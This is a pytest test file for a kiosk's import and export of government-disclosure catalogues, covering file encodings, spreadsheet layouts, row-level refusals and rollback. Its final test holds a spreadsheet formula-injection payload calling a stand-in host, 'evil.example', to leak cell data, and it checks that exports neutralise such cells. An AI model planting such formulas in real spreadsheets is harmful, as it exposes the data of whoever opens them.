"""Catalogue import/export: every file variant, refusals naming the column or row, all or nothing."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from content import db
from content.importer import (CatalogueError, export_catalogue, import_catalogue, parse_channels,
                              parse_levels, read_catalogue)
from kiosk.cli import create_instance, main

DEMO_DATA = Path(__file__).parent.parent / "content" / "demo_data"
COUNTY, TOWNSHIP = "340499000000", "340499100000"
DOMAINS = [d["name"] for d in json.loads((DEMO_DATA / "domains.json").read_text("utf-8"))]

HEADER = ["序号", "领域", "一级事项", "二级事项", "公开内容(要素)", "公开依据", "公开时限",
          "公开主体", "公开渠道和载体", "公开对象", "公开方式", "公开层级"]
ROWS = [
    ["1", "社会救助", "最低生活保障", "办事指南",
     "办理事项、办理条件、最低生活保障标准、申请材料、办理流程、办理时间、地点、联系方式",
     "《社会救助暂行办法》", "制定或获取信息之日起10个工作日内", "县级政府民政部门、乡镇政府(街道办事处)",
     "政府网站", "全社会", "主动", "县级、乡级"],
    ["2", "社会救助", "最低生活保障", "审核信息", "初审对象名单及相关信息", "《社会救助暂行办法》",
     "制定或获取信息之日起10个工作日内，公示7个工作日", "镇人民政府",
     "社区/企事业单位/村公示栏(电子屏)", "特定群众", "主动", "乡、村级"],
    ["3", "涉农补贴", "农业生产发展资金", "耕地地力保护",
     "政策依据；申请指南(补贴对象、范围、标准、申请程序、材料、咨询电话、受理单位、办理时限)；补贴结果；监督渠道",
     "《农业支持保护补贴资金管理办法》", "信息形成或者变更之日起20个工作日内",
     "乡镇人民政府、行政村村民委员会", "行政村公示栏、乡镇公示栏", "全社会", "依申请", "镇级"],
    ["4", "义务教育", "招生管理", "招生范围", "招生范围、学区划分详细情况", "《义务教育法》",
     "信息形成或者变更之日起20个工作日内", "区教育局",
     "■政府网站 □政府公报 ■两微一端 □发布会/听证会 ■公开查阅点 ■社区/企事业单位/村公示栏(电子屏) ■12345政务服务热线",
     "全社会", "主动公开", "县级"],
]


@pytest.fixture
def instance(tmp_path) -> Path:
    """A fresh instance with the demo county's jurisdictions and the 26 domains (no demo content)."""
    path = tmp_path / "instance"
    database = create_instance(path, "standalone")
    conn = db.connect(database)
    conn.execute("INSERT INTO jurisdiction(code, name, level, kind) VALUES (?, '淮川县', 'county', '县')",
                 (COUNTY,))
    conn.execute("INSERT INTO jurisdiction(code, name, level, parent_code, kind) "
                 "VALUES (?, '东湖镇', 'township', ?, '镇')", (TOWNSHIP, COUNTY))
    for i, name in enumerate(DOMAINS, 1):
        conn.execute("INSERT INTO domain(id, name, sort) VALUES (?, ?, ?)", (i, name, i))
    conn.close()
    return path


@pytest.fixture
def conn(instance):
    c = db.connect(instance / "kiosk.sqlite3")
    yield c
    c.close()


def _csv(header, rows, encoding="utf-8") -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows([header, *rows])
    return buf.getvalue().encode(encoding)


def _counts(conn) -> tuple[int, int, int]:
    return tuple(conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
                 for t in ("catalogue_item", "revision", "audit_log"))


def _items(conn, code=COUNTY) -> list[dict]:
    rows = conn.execute(
        "SELECT d.name AS domain, i.seq, i.level1, i.level2, i.content_elements, i.basis, "
        "i.time_limit_text, i.time_limit, i.publisher, i.channels, i.audience, i.mode, i.levels, "
        "i.status FROM catalogue_item i JOIN domain d ON d.id = i.domain_id "
        "WHERE i.jurisdiction_code = ? ORDER BY i.seq, i.id", (code,)).fetchall()
    return [dict(r) for r in rows]


# --- reading: values ---------------------------------------------------------------

def test_values_are_normalised():
    rows = read_catalogue(_csv(HEADER, ROWS), "目录.csv", domains=DOMAINS)
    assert [r.line for r in rows] == [2, 3, 4, 5]
    a, b, c, d = rows
    assert (a.audience, a.mode, a.levels) == ("全社会", "主动", ["县级", "乡级"])
    assert (b.audience, b.levels) == ("特定群体", ["乡级", "村级"])
    assert b.time_limit == {"count": 10, "unit": "workday", "publicity": {"count": 7, "unit": "workday"}}
    assert b.time_limit_text == "制定或获取信息之日起10个工作日内，公示7个工作日"
    assert (c.mode, c.levels) == ("依申请公开", ["乡级"])
    assert c.channels == ["社区/企事业单位/村公示栏(电子屏)"]
    # ■/□ form: only ticked ones; a channel outside the standard list ticks 其他 and keeps its text.
    assert d.channels == ["政府网站", "两微一端", "公开查阅点", "社区/企事业单位/村公示栏(电子屏)",
                          "其他", "12345政务服务热线"]
    assert d.mode == "主动"


@pytest.mark.parametrize("text, expected", [
    ("政府网站、两微一端", ["政府网站", "两微一端"]),
    ("政府网站，政府公报;广播电视；纸质媒体\n入户/现场", ["政府网站", "政府公报", "广播电视", "纸质媒体", "入户/现场"]),
    ("政务微信、门户网站", ["政府网站", "两微一端"]),
    ("村公示栏 (电子屏)、便民服务中心", ["便民服务站", "社区/企事业单位/村公示栏(电子屏)"]),
    ("□政府网站 ■发布会/听证会 ☑精准推送", ["发布会/听证会", "精准推送"]),
    ("其他：村民微信群", ["其他", "村民微信群"]),
    ("", []),
])
def test_channels(text, expected):
    assert parse_channels(text) == expected


@pytest.mark.parametrize("text, expected", [
    ("县级、乡级", ["县级", "乡级"]), ("乡、村级", ["乡级", "村级"]), ("镇级", ["乡级"]),
    ("县乡两级", ["县级", "乡级"]), ("县级/乡级", ["县级", "乡级"]), ("■县级 □乡级", ["县级"]),
    ("乡镇（街道）级", ["乡级"]), ("村(社区)", ["村级"]),
])
def test_levels(text, expected):
    assert parse_levels(text) == expected


def test_demo_catalogues_read_cleanly():
    for path in sorted(DEMO_DATA.glob("catalogue_*.csv")):
        rows = read_catalogue(path, domains=DOMAINS)
        assert rows and all(r.level1 and r.levels for r in rows), path


# --- reading: file variants ---------------------------------------------------------

@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"])
def test_csv_encodings(encoding):
    rows = read_catalogue(_csv(HEADER, ROWS, encoding), "目录.csv", domains=DOMAINS)
    assert [r.level2 for r in rows] == ["办事指南", "审核信息", "耕地地力保护", "招生范围"]
    assert rows[1].audience == "特定群体"


def test_csv_tab_separated_and_header_spellings():
    header = ["序号", "所属领域", "一级事项", "二级事项", "公开内容（要素）", "公开依据", "公开时限",
              "公开主体", "公开渠道及载体", "公开对象", "公开方式", "公开层级", "备注"]
    text = "\n".join("\t".join(r) for r in [header, *[r + ["无"] for r in ROWS]])
    rows = read_catalogue(("淮川县目录\n" + text).encode("gb18030"), "a.csv", domains=DOMAINS)
    assert len(rows) == 4 and rows[0].content_elements.startswith("办理事项") and rows[0].line == 3


def _real_xlsx(path: Path, with_domain_column=False, bad=None) -> Path:
    """A workbook laid out like printed county catalogues.

    Title row; two-row header with 公开事项 over 一级/二级 and ticked sub-columns under
    公开对象/公开方式/公开层级; 一级事项 merged down over two rows; section rows for domains.
    """
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "目录"
    top = ["序号", "公开事项", None, "公开内容（要素）", "公开依据", "公开时限", "公开主体",
           "公开渠道和载体", "公开对象", None, "公开方式", None, "公开层级", None]
    sub = [None, "一级事项", "二级事项", None, None, None, None, None,
           "全社会", "特定群众", "主动", "依申请", "县级", "乡级"]
    if with_domain_column:
        top.insert(1, "领域")
        sub.insert(1, None)
    ws.append(["淮川县社会救助、涉农补贴领域基层政务公开标准目录"])
    ws.append(top)
    ws.append(sub)
    width = len(top)
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=width)
    off = 1 if with_domain_column else 0
    for start, end in ((2, 3), (9, 10), (11, 12), (13, 14)):
        ws.merge_cells(start_row=2, start_column=start + off, end_row=2, end_column=end + off)
    for col in [1, *range(4 + off, 9 + off)] + ([2] if with_domain_column else []):
        ws.merge_cells(start_row=2, start_column=col, end_row=3, end_column=col)

    def data(seq, domain, l1, l2, content, publisher, channels, ticks):
        row = [seq, l1, l2, content, "《社会救助暂行办法》", "信息形成或者变更之日起20个工作日内",
               publisher, channels, *ticks]
        if with_domain_column:
            row.insert(1, domain)
        ws.append(row)

    ws.append(["一、社会救助"] + [None] * (width - 1))
    ws.merge_cells(start_row=4, start_column=1, end_row=4, end_column=width)
    data(1, "社会救助", "最低生活保障", "办事指南", "办理条件、申请材料", "县民政局",
         "■政府网站 □政府公报 ■两微一端", ["√", None, "√", None, "√", "√"])
    data(2, "社会救助", None, "审核信息", "初审对象名单", "镇人民政府",
         "村公示栏(电子屏)、便民服务站", [None, "√", "√", None, None, "√"])
    ws.merge_cells(start_row=5, start_column=2 + off, end_row=6, end_column=2 + off)
    ws.append(["二、涉农补贴领域"] + [None] * (width - 1))
    ws.merge_cells(start_row=7, start_column=1, end_row=7, end_column=width)
    data(3, "涉农补贴", "农业生产发展资金", "耕地地力保护", "补贴对象、标准、结果", "乡镇人民政府",
         "政府网站\n行政村公示栏", ["√", None, None, "√", None, "√"])
    if bad:
        bad(ws)
    ws.append(["注：打“√”表示适用。"] + [None] * (width - 1))
    ws.merge_cells(start_row=ws.max_row, start_column=1, end_row=ws.max_row, end_column=width)
    wb.save(path)
    return path


def test_xlsx_with_merged_two_row_header_and_ticks(tmp_path):
    rows = read_catalogue(_real_xlsx(tmp_path / "目录.xlsx"), domains=DOMAINS)
    assert [(r.line, r.domain, r.level1, r.level2) for r in rows] == [
        (5, "社会救助", "最低生活保障", "办事指南"),
        (6, "社会救助", "最低生活保障", "审核信息"),        # merged 一级事项 filled down
        (8, "涉农补贴", "农业生产发展资金", "耕地地力保护"),  # domain from the section row
    ]
    a, b, c = rows
    assert (a.audience, a.mode, a.levels) == ("全社会", "主动", ["县级", "乡级"])
    assert (b.audience, b.mode, b.levels) == ("特定群体", "主动", ["乡级"])
    assert (c.audience, c.mode, c.levels) == ("全社会", "依申请公开", ["乡级"])
    assert a.channels == ["政府网站", "两微一端"]
    assert b.channels == ["便民服务站", "社区/企事业单位/村公示栏(电子屏)"]
    assert c.channels == ["政府网站", "社区/企事业单位/村公示栏(电子屏)"]
    assert a.content_elements == "办理条件、申请材料"


def test_xlsx_with_domain_column(tmp_path):
    rows = read_catalogue(_real_xlsx(tmp_path / "a.xlsx", with_domain_column=True), domains=DOMAINS)
    assert [r.domain for r in rows] == ["社会救助", "社会救助", "涉农补贴"]


def test_csv_two_row_header_as_exported_from_merged_cells():
    text = ("序号,公开事项,,公开内容（要素）,公开依据,公开时限,公开主体,公开渠道和载体,公开对象,公开方式,公开层级\n"
            ",一级事项,二级事项,,,,,,,,\n"
            "1,临时救助,救助对象及金额,救助对象姓名、救助事由、救助金额,《社会救助暂行办法》,"
            "信息形成或者变更之日起20个工作日内,东湖镇人民政府,\"政府网站\n便民服务站\",特定群体,依申请公开,乡、村级\n")
    rows = read_catalogue(text.encode("utf-8-sig"), "x.csv", domain="社会救助", domains=DOMAINS)
    assert len(rows) == 1
    r = rows[0]
    assert (r.line, r.domain, r.level1, r.level2) == (3, "社会救助", "临时救助", "救助对象及金额")
    assert r.channels == ["政府网站", "便民服务站"]
    assert (r.audience, r.mode, r.levels) == ("特定群体", "依申请公开", ["乡级", "村级"])


# --- refusals ----------------------------------------------------------------------

def test_missing_column_is_named():
    header = [h for h in HEADER if h != "公开时限"]
    rows = [[c for h, c in zip(HEADER, r) if h != "公开时限"] for r in ROWS]
    with pytest.raises(CatalogueError) as e:
        read_catalogue(_csv(header, rows), "a.csv", domains=DOMAINS)
    assert "缺少「公开时限」列" in str(e.value)


def test_missing_domain_column_without_option():
    header = [h for h in HEADER if h != "领域"]
    rows = [[c for h, c in zip(HEADER, r) if h != "领域"] for r in ROWS]
    with pytest.raises(CatalogueError, match="缺少「领域」列.*--domain"):
        read_catalogue(_csv(header, rows), "a.csv", domains=DOMAINS)
    got = read_catalogue(_csv(header, rows), "a.csv", domain="社会救助", domains=DOMAINS)
    assert {r.domain for r in got} == {"社会救助"}
    with pytest.raises(CatalogueError, match="--domain 指定的领域「不存在的领域」不在领域列表中"):
        read_catalogue(_csv(header, rows), "a.csv", domain="不存在的领域", domains=DOMAINS)


def test_no_header_at_all():
    with pytest.raises(CatalogueError, match="找不到表头"):
        read_catalogue("姓名,金额\n张三,100\n".encode(), "a.csv")


def test_bad_rows_are_named_by_spreadsheet_row():
    rows = [r[:] for r in ROWS]
    rows[0][1] = "天文观测"          # unknown domain      → 第2行
    rows[1][2] = ""                 # empty 一级事项       → 第3行
    rows[2][9] = "部分群众"          # bad 公开对象         → 第4行
    rows[3][10] = "随时"             # bad 公开方式         → 第5行
    with pytest.raises(CatalogueError) as e:
        read_catalogue(_csv(HEADER, rows), "a.csv", domains=DOMAINS)
    errors = e.value.errors
    assert errors == [
        "第2行：领域「天文观测」不在领域列表中",
        "第3行：「一级事项」为空",
        "第4行：「公开对象」的值「部分群众」无法识别（应为 全社会 或 特定群体）",
        "第5行：「公开方式」的值「随时」无法识别（应为 主动 或 依申请公开）",
    ]


def test_bad_tick_and_level_in_xlsx_named_by_row(tmp_path):
    def bad(ws):
        row = [4, "最低生活保障", "资金发放", "发放金额", "《社会救助暂行办法》", "每月", "县民政局",
               "政府网站", "√", None, "是的吧", None, None, None]
        ws.append(row)
    path = _real_xlsx(tmp_path / "bad.xlsx", bad=bad)
    with pytest.raises(CatalogueError) as e:
        read_catalogue(path, domains=DOMAINS)
    assert e.value.errors == [
        "工作表「目录」第9行：「公开方式-主动」列的值「是的吧」无法识别（打 √ 表示是，留空表示否）；"
        "「公开方式」为空（应为 主动 或 依申请公开）；「公开层级」为空（应为 县级、乡级 或 村级）"]


def test_unreadable_files():
    with pytest.raises(CatalogueError, match="编码"):
        read_catalogue(b"\xff\xff\xfe\x00\x81\x30" * 40, "a.csv")
    with pytest.raises(CatalogueError, match=r"\.xls"):
        read_catalogue(b"\xd0\xcf\x11\xe0 old excel", "a.xls")
    with pytest.raises(CatalogueError, match="不支持的文件类型"):
        read_catalogue(b"%PDF-1.4", "a.pdf")
    with pytest.raises(CatalogueError, match="无法打开"):
        read_catalogue(b"PK\x03\x04 broken", "a.xlsx")
    with pytest.raises(CatalogueError, match="空"):
        read_catalogue(b"", "a.csv")


# --- importing ---------------------------------------------------------------------

def test_import_writes_published_items_revisions_and_audit(conn, tmp_path):
    path = tmp_path / "目录.csv"
    path.write_bytes(_csv(HEADER, ROWS, "gb18030"))
    result = import_catalogue(conn, path)           # default: the county
    assert (result.jurisdiction_code, result.count, result.inserted) == (COUNTY, 4, 4)
    assert result.domains == {"社会救助": 2, "涉农补贴": 1, "义务教育": 1}
    assert "新增 4 条" in result.summary()
    items = _items(conn)
    assert [i["status"] for i in items] == ["published"] * 4
    assert json.loads(items[1]["levels"]) == ["乡级", "村级"] and items[1]["audience"] == "特定群体"
    assert json.loads(items[0]["time_limit"]) == {"count": 10, "unit": "workday"}
    revs = conn.execute("SELECT * FROM revision WHERE entity = 'catalogue_item'").fetchall()
    assert len(revs) == 4 and {r["state"] for r in revs} == {"published"} and revs[0]["rev"] == 1
    assert json.loads(revs[0]["data"])["level1"] == "最低生活保障"
    audit = conn.execute("SELECT * FROM audit_log WHERE action = 'import'").fetchall()
    assert len(audit) == 1 and audit[0]["entity_id"] == COUNTY
    assert json.loads(audit[0]["after"])["inserted"] == 4
    assert db.get_meta(conn, "content_version") == "1"


def test_reimport_updates_in_place(conn, tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(_csv(HEADER, ROWS))
    import_catalogue(conn, path)
    before = _counts(conn)
    again = import_catalogue(conn, path)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 4)
    assert _counts(conn) == (before[0], before[1], before[2] + 1)    # only the audit row
    changed = [r[:] for r in ROWS]
    changed[0][6] = "制定或获取信息之日起5个工作日内"
    path.write_bytes(_csv(HEADER, changed))
    third = import_catalogue(conn, path)
    assert (third.inserted, third.updated, third.unchanged) == (0, 1, 3)
    row = conn.execute("SELECT * FROM catalogue_item WHERE level2 = '办事指南'").fetchone()
    assert row["rev"] == 2 and json.loads(row["time_limit"]) == {"count": 5, "unit": "workday"}
    assert conn.execute("SELECT count(*) FROM catalogue_item").fetchone()[0] == 4


def test_admin_import_is_draft_and_keeps_public_version(conn, tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(_csv(HEADER, ROWS))
    import_catalogue(conn, path)
    conn.execute("INSERT INTO user(username, password_hash, role, jurisdiction_code) "
                 "VALUES ('admin', 'x', 'county_admin', ?)", (COUNTY,))
    user = conn.execute("SELECT * FROM user WHERE username = 'admin'").fetchone()
    changed = [r[:] for r in ROWS] + [["5", "社会救助", "临时救助", "救助对象及金额", "救助对象姓名", "",
                                      "实时公开", "县民政局", "政府网站", "全社会", "主动", "县级"]]
    changed[0][4] = "新的公开内容"
    path.write_bytes(_csv(HEADER, changed))
    result = import_catalogue(conn, path, user=user)
    assert result.status == "draft" and (result.inserted, result.updated) == (1, 1)
    public = conn.execute("SELECT * FROM catalogue_item WHERE level2 = '办事指南'").fetchone()
    assert public["status"] == "published" and public["content_elements"].startswith("办理事项")
    draft = conn.execute("SELECT * FROM revision WHERE entity_id = ? AND state = 'draft'",
                         (public["id"],)).fetchone()
    assert json.loads(draft["data"])["content_elements"] == "新的公开内容"
    assert draft["author_id"] == user["id"]
    new = conn.execute("SELECT status FROM catalogue_item WHERE level2 = '救助对象及金额'").fetchone()
    assert new["status"] == "draft"
    audit = conn.execute("SELECT * FROM audit_log WHERE action = 'import' ORDER BY id DESC").fetchone()
    assert audit["user_id"] == user["id"] and audit["username"] == "admin"


def test_refused_file_writes_nothing(conn, tmp_path):
    path = tmp_path / "good.csv"
    path.write_bytes(_csv(HEADER, ROWS))
    import_catalogue(conn, path)
    before, version = _counts(conn), db.get_meta(conn, "content_version")
    rows = [r[:] for r in ROWS] * 3
    rows[-1][11] = "省级"
    path.write_bytes(_csv(HEADER, rows))
    with pytest.raises(CatalogueError, match="第13行：「公开层级」的值「省级」无法识别"):
        import_catalogue(conn, path)
    assert _counts(conn) == before
    assert db.get_meta(conn, "content_version") == version
    with pytest.raises(CatalogueError, match="行政区划代码「340499999999」不存在"):
        import_catalogue(conn, tmp_path / "good.csv", "340499999999")
    assert _counts(conn) == before


def test_failure_while_writing_rolls_back(conn, tmp_path, monkeypatch):
    path = tmp_path / "good.csv"
    path.write_bytes(_csv(HEADER, ROWS))
    before = _counts(conn)
    import content.importer as importer
    real = importer.json.dumps
    calls = {"n": 0}

    def flaky(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] > 9:
            raise RuntimeError("disk full")
        return real(*args, **kwargs)
    monkeypatch.setattr(importer.json, "dumps", flaky)
    with pytest.raises(RuntimeError):
        import_catalogue(conn, path)
    monkeypatch.undo()
    assert _counts(conn) == before
    assert not conn.in_transaction


# --- export ------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_round_trip(conn, tmp_path, fmt):
    src = _real_xlsx(tmp_path / "src.xlsx")
    import_catalogue(conn, src)
    csv_path = tmp_path / "more.csv"
    csv_path.write_bytes(_csv(HEADER, ROWS[2:]))
    import_catalogue(conn, csv_path)
    data = export_catalogue(conn, COUNTY, fmt)
    out = tmp_path / f"export.{fmt}"
    out.write_bytes(data)
    if fmt == "csv":
        assert data.startswith(b"\xef\xbb\xbf" + "序号,领域,一级事项".encode())
    else:
        ws = openpyxl.load_workbook(out).active
        assert ws["A1"].value.startswith("淮川县") and ws["C2"].value == "公开事项"
    result = import_catalogue(conn, out, TOWNSHIP)
    assert result.inserted == 4          # 耕地地力保护 of the .csv updated the one from the .xlsx
    strip = [{k: v for k, v in i.items() if k != "seq"} for i in _items(conn, COUNTY)]
    again = [{k: v for k, v in i.items() if k != "seq"} for i in _items(conn, TOWNSHIP)]
    key = lambda i: (i["domain"], i["level1"], i["level2"])  # noqa: E731
    assert sorted(again, key=key) == sorted(strip, key=key)
    # Re-importing the export into the same place changes nothing.
    same = import_catalogue(conn, out, COUNTY)
    assert (same.inserted, same.updated, same.unchanged) == (0, 0, 4)


def test_export_leaves_out_drafts_and_withdrawn(conn, tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(_csv(HEADER, ROWS))
    import_catalogue(conn, path)
    conn.execute("UPDATE catalogue_item SET status = 'withdrawn' WHERE level2 = '办事指南'")
    text = export_catalogue(conn, COUNTY, "csv").decode("utf-8-sig")
    assert "审核信息" in text and "办事指南" not in text
    assert len(list(csv.reader(io.StringIO(text)))) == 4


# --- the command line ----------------------------------------------------------------

def test_cli_imports_and_prints_summary(instance, tmp_path):
    path = tmp_path / "目录.xlsx"
    _real_xlsx(path)
    result = CliRunner().invoke(main, ["import-catalog", str(path), "--data-dir", str(instance),
                                       "--jurisdiction", TOWNSHIP])
    assert result.exit_code == 0, result.output
    assert "已导入东湖镇（340499100000）公开事项 3 条" in result.output
    assert "社会救助 2 条" in result.output
    c = db.connect(instance / "kiosk.sqlite3")
    assert c.execute("SELECT count(*) FROM catalogue_item WHERE jurisdiction_code = ? "
                     "AND status = 'published'", (TOWNSHIP,)).fetchone()[0] == 3
    c.close()


def test_cli_domain_option_and_scope_default(instance, tmp_path):
    c = db.connect(instance / "kiosk.sqlite3")
    db.set_meta(c, "scope", TOWNSHIP)
    c.close()
    header = [h for h in HEADER if h != "领域"]
    rows = [[v for h, v in zip(HEADER, r) if h != "领域"] for r in ROWS]
    path = tmp_path / "a.csv"
    path.write_bytes(_csv(header, rows, "gb18030"))
    result = CliRunner().invoke(main, ["import-catalog", str(path), "--domain", "社会救助"],
                                env={"KIOSK_DATA_DIR": str(instance)})
    assert result.exit_code == 0, result.output
    assert "东湖镇" in result.output and "社会救助 4 条" in result.output


def test_cli_refusal_exits_nonzero_and_writes_nothing(instance, tmp_path):
    rows = [r[:] for r in ROWS]
    rows[2][2] = ""
    path = tmp_path / "bad.csv"
    path.write_bytes(_csv(HEADER, rows))
    result = CliRunner().invoke(main, ["import-catalog", str(path), "--data-dir", str(instance)])
    assert result.exit_code != 0
    assert "导入被拒绝，未写入任何内容" in result.output
    assert "第4行：「一级事项」为空" in result.output
    c = db.connect(instance / "kiosk.sqlite3")
    assert _counts(c) == (0, 0, 0)
    c.close()
    result = CliRunner().invoke(main, ["import-catalog", str(path), "--data-dir", str(instance),
                                       "--jurisdiction", "12345"])
    assert result.exit_code != 0 and "12位数字" in result.output
    result = CliRunner().invoke(main, ["import-catalog", str(path), "--data-dir",
                                       str(tmp_path / "nowhere")])
    assert result.exit_code != 0 and "不是已初始化的实例目录" in result.output


def test_demo_catalogue_reimports_unchanged(data_dir):
    """The demo county's own catalogue files, imported again through the CLI, change nothing."""
    runner = CliRunner()
    c = db.connect(data_dir / "kiosk.sqlite3")
    before = _counts(c)[:2]
    for path in sorted(DEMO_DATA.glob("catalogue_*.csv")):
        code = path.stem.split("_")[1]
        result = runner.invoke(main, ["import-catalog", str(path), "--data-dir", str(data_dir),
                                      "--jurisdiction", code])
        assert result.exit_code == 0, result.output
        assert "新增 0 条，更新 0 条" in result.output, result.output
    assert _counts(c)[:2] == before
    c.close()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralises_formula_cells(conn, tmp_path, fmt):
    """An approved cell like =HYPERLINK(…) comes out as text, never as a formula, and a
    re-import of the export reads the same text back."""
    path = tmp_path / "a.csv"
    path.write_bytes(_csv(HEADER, ROWS))
    import_catalogue(conn, path)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    conn.execute("UPDATE catalogue_item SET basis = ?, publisher = '@SUM(1)' WHERE level2 = '办事指南'",
                 (evil,))
    data = export_catalogue(conn, COUNTY, fmt)
    out = tmp_path / f"export.{fmt}"
    out.write_bytes(data)
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
        assert "'" + evil in cells and "'@SUM(1)" in cells
        assert not any(c.startswith(("=", "@", "+")) for c in cells)
    else:
        cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
        assert [c.data_type for c in cells if c.value == evil] == ["s"]
        assert not any(c.data_type == "f" for c in cells)
    rows = read_catalogue(out, domains=DOMAINS)
    assert {r.basis for r in rows if r.level2 == "办事指南"} == {evil}
